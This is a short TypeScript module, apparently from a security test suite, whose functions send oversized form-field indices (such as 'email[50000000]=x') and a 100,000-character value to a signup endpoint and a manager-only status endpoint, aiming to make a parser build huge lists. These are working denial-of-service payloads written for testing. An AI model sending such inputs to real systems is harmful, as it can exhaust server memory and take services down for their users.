import { type Attack, send } from "../attack";

const intent = (payload: unknown) =>
  `__intent__=${encodeURIComponent(JSON.stringify({ type: "update", payload }))}`;
const BODIES = [
  "email[50000000]=x",
  "email[100000000]=x",
  "a[9999999][9999999]=x",
  intent({ name: "email", index: 30_000_000, value: 1 }),
  intent({ name: "", value: "x".repeat(100_000) }),
];

/** Form field names with a huge index, from which a parser may build a list of that length. */
export const formIndexAttacks: Attack[] = [
  {
    code: "V1",
    name: "lists of 50 million by one name",
    run: (target) => Promise.all(BODIES.map((body) => send(target, "/signup", { body }))),
  },
  {
    code: "V1",
    name: "the same in an address",
    run: async (target) => {
      const who = await target.as("manager");
      const path = `/trip-tickets/selection/update-status?${BODIES[0]}`;
      return [await send(target, path, { method: "GET", who })];
    },
  },
];
